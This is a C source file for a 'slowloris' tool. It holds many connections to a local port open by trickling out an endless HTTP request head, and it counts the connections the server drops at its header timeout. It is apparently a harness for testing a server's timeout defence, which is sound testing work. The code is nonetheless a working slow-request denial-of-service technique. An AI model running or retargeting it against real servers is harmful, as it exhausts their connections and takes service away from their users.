// slowloris PORT N: keep N connections to 127.0.0.1:PORT, each dribbling one byte of an endless
// request head ("GET / HTTP/1.1", "Host", then "X-Pad: aaaa...") every second (the N writes are
// spread over the second). A connection the server answers or closes (408 at its header timeout)
// is replaced by a new one. Prints "held N" once all are open; on SIGTERM prints the count of
// replaced connections and exits.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static volatile sig_atomic_t stop;
static void on_signal(int s) {
    (void)s;
    stop = 1;
}
static struct sockaddr_in sa;
static const char head[] = "GET / HTTP/1.1\r\nHost: slowloris\r\nX-Pad: ";

static int open_conn(void) {
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (fd < 0) return -1;
    if (connect(fd, (struct sockaddr*)&sa, sizeof sa) < 0 && errno != EINPROGRESS) {
        close(fd);
        return -1;
    }
    struct pollfd p = {.fd = fd, .events = POLLOUT};
    if (poll(&p, 1, 2000) != 1) {
        close(fd);
        return -1;
    }
    return fd;
}

int main(int argc, char** argv) {
    if (argc < 3) {
        fprintf(stderr, "usage: slowloris PORT N\n");
        return 2;
    }
    sa.sin_family = AF_INET;
    sa.sin_port = htons((unsigned short)atoi(argv[1]));
    inet_pton(AF_INET, "127.0.0.1", &sa.sin_addr);
    int n = atoi(argv[2]);
    signal(SIGPIPE, SIG_IGN);
    struct sigaction act = {.sa_handler = on_signal};
    sigaction(SIGTERM, &act, NULL);
    sigaction(SIGINT, &act, NULL);
    int* fd = calloc((size_t)n, sizeof *fd);
    size_t* pos = calloc((size_t)n, sizeof *pos);
    for (int i = 0; i < n; i++) {
        if ((fd[i] = open_conn()) < 0) {
            perror("connect");
            return 1;
        }
    }
    printf("held %d\n", n);
    fflush(stdout);
    long replaced = 0;
    useconds_t gap = (useconds_t)(1000000 / (n > 0 ? n : 1));
    while (!stop) {
        for (int i = 0; i < n && !stop; i++) {
            char c = pos[i] < sizeof head - 1 ? head[pos[i]] : 'a';
            struct pollfd p = {.fd = fd[i], .events = POLLIN};
            int answered = poll(&p, 1, 0) == 1;  // a 408, or EOF: the server gave up on it
            if (answered || write(fd[i], &c, 1) != 1) {
                close(fd[i]);
                fd[i] = open_conn();
                pos[i] = 0;
                replaced++;
                if (fd[i] < 0) {
                    fprintf(stderr, "slowloris: reconnect failed\n");
                    return 1;
                }
            } else {
                pos[i]++;
            }
            usleep(gap);
        }
    }
    printf("replaced %ld\n", replaced);
    return 0;
}
